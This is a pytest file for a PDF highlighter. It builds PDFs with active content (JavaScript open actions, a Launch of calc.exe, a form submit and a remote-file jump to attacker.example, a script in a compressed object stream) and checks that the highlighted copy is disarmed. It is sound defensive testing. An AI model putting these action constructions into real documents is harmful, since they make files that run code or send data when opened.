"""PDFs that run, start or send something when they are opened: the highlighted copy must not."""

import io
import re
import shutil
import subprocess
import zlib

import pypdfium2 as pdfium
import pypdfium2.raw as c
import pytest

from core.domain.answer import Span
from core.domain.ports import HighlightNote
from core.reading.illustrator import PdfIllustrator
from core.reading.reader import read_document
from core.reading.sandbox.disarm import ARMED, disarm
from tests.pdfs import assemble, document, lines, stream

WORDS = "The Contractor shall submit samples within ten days."
ACTION = b"<</Type/Action/S/J#61vaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</Type/Action/S/Launch/F(calc.exe)/Win<</F(calc.exe)>>>>"
SUBMIT = b"<</Type/Action/S/SubmitForm/F(http://attacker.example/)>>"
REMOTE = b"<</Type/Action/S/GoToR/F(\\\\\\\\attacker.example\\\\share\\\\x.pdf)/D[0/Fit]>>"


def link(action):
    return b"<</Type/Annot/Subtype/Link/Rect[10 10 50 50]/Border[0 0 0]/A " + action + b">>"


def packed():
    """A PDF whose catalogue, with its script, is in a compressed stream of objects."""
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>"
    inner = catalog + b" " + ACTION
    first = b"1 0 5 %d " % (len(catalog) + 1)
    bodies = {
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        b"/Resources<</Font<</F1 7 0 R>>>>>>",
        4: stream(lines(WORDS)),
        6: stream(first + inner, entries=b"/Type/ObjStm/N 2/First %d" % len(first), compress=True),
        7: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    out, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = offsets[8] = len(out)
    rows = b""
    for number in range(9):
        if number in {1, 5}:
            rows += bytes([2]) + (6).to_bytes(4, "big") + bytes([{1: 0, 5: 1}[number]])
        else:
            rows += bytes([number in offsets]) + offsets.get(number, 0).to_bytes(4, "big") + b"\0"
    table = stream(rows, entries=b"/Type/XRef/Size 9/W[1 4 1]/Root 1 0 R", compress=True)
    return bytes(out + b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start))


ARMED_PDFS = {
    "script at opening": document([lines(WORDS)], catalog=b"/OpenAction " + ACTION),
    "script by name": document(
        [lines(WORDS)], catalog=b"/Names<</JavaScript<</Names[(a)" + ACTION + b"]>>>>"
    ),
    "script on every page": document([lines(WORDS)], page=b"/AA<</O " + ACTION + b">>"),
    "program behind a link": document([lines(WORDS)], page=b"/Annots[" + link(LAUNCH) + b"]"),
    "form that is sent": document([lines(WORDS)], catalog=b"/OpenAction " + SUBMIT),
    "file of another machine": document([lines(WORDS)], catalog=b"/OpenAction " + REMOTE),
    "script in a form": document([lines(WORDS)], catalog=b"/AcroForm<</XFA(<script>)/Fields[]>>"),
    "script in packed objects": packed(),
}


def highlighted(data, tmp_path):
    source = tmp_path / "armed.pdf"
    source.write_bytes(data)
    with read_document(source) as reading:
        pages = list(reading)
    assert WORDS in pages[0].text
    at = pages[0].text.index(WORDS)
    target = tmp_path / "highlighted.pdf"
    illustrator = PdfIllustrator(source, lambda: read_document(source), name="armed.pdf")
    remarks = [HighlightNote(Span(1, at, at + len(WORDS)), "A note.", (255, 225, 70))]
    illustrator.highlight(remarks, "Marked.", target)
    return target


def plain(data):
    """Return a PDF as one text with all its streams unpacked beside it, and names unescaped."""
    unpacked = b""
    for found in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.DOTALL):
        try:
            unpacked += zlib.decompressobj().decompress(found[1])
        except zlib.error:
            continue
    return re.sub(rb"#([0-9a-fA-F]{2})", lambda m: bytes([int(m[1], 16)]), data + unpacked)


@pytest.mark.parametrize("name", ARMED_PDFS)
def test_what_a_pdf_would_run_or_start_is_out_of_action_in_the_highlighted_copy(name, tmp_path):
    armed = ARMED_PDFS[name]
    assert re.search(rb"/(?:%s)\b" % b"|".join(ARMED), plain(armed))
    copy = highlighted(armed, tmp_path).read_bytes()
    assert not re.search(rb"/(?:%s)(?![A-Za-z])" % b"|".join(ARMED), plain(copy))
    opened = pdfium.PdfDocument(copy)
    assert c.FPDFDoc_GetJavaScriptActionCount(opened) <= 0
    assert WORDS in opened[0].get_textpage().get_text_bounded()
    kinds = [c.FPDFAnnot_GetSubtype(c.FPDFPage_GetAnnot(opened[0], n)) for n in range(2)]
    assert c.FPDF_ANNOT_HIGHLIGHT in kinds


def test_another_program_finds_no_script_either(tmp_path):
    if shutil.which("pdfinfo") is None:
        pytest.skip("poppler-utils is not installed")
    before = tmp_path / "before.pdf"
    before.write_bytes(ARMED_PDFS["script by name"])
    after = highlighted(ARMED_PDFS["script by name"], tmp_path)
    said = [
        subprocess.run(["pdfinfo", "-js", each], capture_output=True, check=True, text=True)
        for each in (before, after)
    ]
    assert "app.alert" in said[0].stdout
    assert "app.alert" not in said[1].stdout


def test_a_harmless_pdf_keeps_its_bytes_and_gets_its_highlights_behind_them(tmp_path):
    harmless = document([lines(WORDS)], page=b"/Annots[" + link(b"<</S/URI/URI(https://a.example/)>>") + b"]")
    copy = highlighted(harmless, tmp_path).read_bytes()
    assert copy.startswith(harmless[: harmless.rindex(b"startxref")])
    assert b"/URI(https://a.example/)" in copy.replace(b" ", b"")


@pytest.mark.parametrize(
    "body",
    [
        b"<</Contents(see /JS and /Launch \\) )/T(/JavaScript)>>",
        b"<</Note(a (nested /JS) text)>>",
        stream(b"/JS Do /Launch gs"),
        b"<</JSX 1/Launcher 2/Javascript 3>>",
        b"%/JS in a comment\n<<>>",
    ],
)
def test_words_and_contents_that_only_look_like_actions_stay(body, tmp_path):
    path = tmp_path / "a.pdf"
    path.write_bytes(assemble([body]))
    assert disarm(path) == 0


def test_a_stream_whose_length_is_wrong_hides_nothing_behind_it(tmp_path):
    path = tmp_path / "a.pdf"
    lying = b"<</Length 999999>>stream\nxx\nendstream"
    path.write_bytes(assemble([lying, b"<</S/JavaScript/JS(x)>>"]))
    assert disarm(path) == 2
    assert io.BytesIO(path.read_bytes()).read().count(b"/JavaScripT") == 1
